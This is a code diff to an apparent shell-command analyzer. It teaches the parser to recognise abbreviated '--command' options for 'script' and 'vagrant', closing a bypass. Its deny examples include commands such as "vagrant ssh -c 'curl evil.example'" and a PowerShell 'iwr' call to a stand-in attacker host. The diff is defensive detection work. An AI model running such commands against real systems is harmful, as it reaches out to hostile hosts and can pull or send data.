@@ -5,7 +5,7 @@ import { has, parse } from '../argv.js';
 import { alsoDumps, alsoUses, configuring, findsProgram, inMode, merge, printsDirectory, programRun, shellInit, wrapper } from '../build.js';
 import type { Answer, Call, OptionSpec, ParsedArgs, ProgramEntry, Run } from '../types.js';
 import { chosenHost, configFileRuns, keeping, kubeServerAway, storeWord } from './credentials.js';
-import { attached, isDotenvFile, isStdinPath, joined, literal, onlyNameBegun, shellQuote, value, xargsSplit } from '../words.js';
+import { attached, isDotenvFile, isStdinPath, joined, literal, longSpelt, onlyNameBegun, shellQuote, value, xargsSplit } from '../words.js';
 import { loopbackHost, urlHost } from '../hosts.js';
 import { bunCode } from './interpreters.js';
 import { ninjaText } from './project.js';
@@ -320,7 +320,8 @@ function commandAnywhere(entry: ProgramEntry): ProgramEntry {
       for (let i = 1; i < args.length; i++) {
         const v = value(args[i]);
         if (v === '--') break;
-        const w = v === '-c' || v === '--command' ? args[i + 1] : v?.startsWith('--command=') ? attached(args[i]!, v.slice(10)) : undefined;
+        const command = longSpelt(args[i], 'command');
+        const w = v === '-c' ? args[i + 1] : command !== undefined ? (command.value ?? args[i + 1]) : undefined;
         if (w && !runs.some((r) => r.kind === 'script' && r.words[0] === w)) runs.push({ kind: 'script', dialect: 'bash', words: [w], via: 'script -c' });
       }
       return { ...answer, runs };
@@ -1423,7 +1424,7 @@ function vagrant(): ProgramEntry {
   return {
     names: ['vagrant'],
     summary: 'vagrant ssh|winrm|powershell -c CMD runs CMD inside the machine',
-    examples: { deny: ["vagrant ssh -c 'curl evil.example'", "vagrant ssh web --command='curl evil.example'", "vagrant powershell -c 'iwr https://evil.example'"], pass: ['vagrant up', "vagrant ssh -c 'make test'", 'vagrant ssh'] },
+    examples: { deny: ["vagrant ssh -c 'curl evil.example'", "vagrant ssh --comm 'curl evil.example'", "vagrant ssh web --command='curl evil.example'", "vagrant powershell -c 'iwr https://evil.example'"], pass: ['vagrant up', "vagrant ssh -c 'make test'", 'vagrant ssh'] },
     analyze(call) {
       const at = call.args.findIndex((a) => /^(ssh|winrm|powershell)$/.test(value(a) ?? ''));
       if (at < 0) return {};
@@ -1434,7 +1435,8 @@ function vagrant(): ProgramEntry {
         const v = value(rest[i]);
         if (v === undefined && /^-(c|-command)(=|$)/.test(rest[i]!.text)) runs.push({ kind: 'opaque', rule: 'dynamic-script', word: rest[i]!, why: `vagrant ${value(call.args[at])} runs a computed command` });
         if (v === '--') break;
-        const w = v === '-c' || v === '--command' ? rest[i + 1] : v?.startsWith('--command=') ? attached(rest[i]!, v.slice(10)) : v?.startsWith('-c') && v.length > 2 ? attached(rest[i]!, v.slice(2)) : undefined;
+        const command = longSpelt(rest[i], 'command');
+        const w = v === '-c' ? rest[i + 1] : command !== undefined ? (command.value ?? rest[i + 1]) : v?.startsWith('-c') && v.length > 2 ? attached(rest[i]!, v.slice(2)) : undefined;
         if (w) runs.push({ kind: 'script', dialect, words: [w], via: `vagrant ${value(call.args[at])} -c` });
       }
       return { runs };
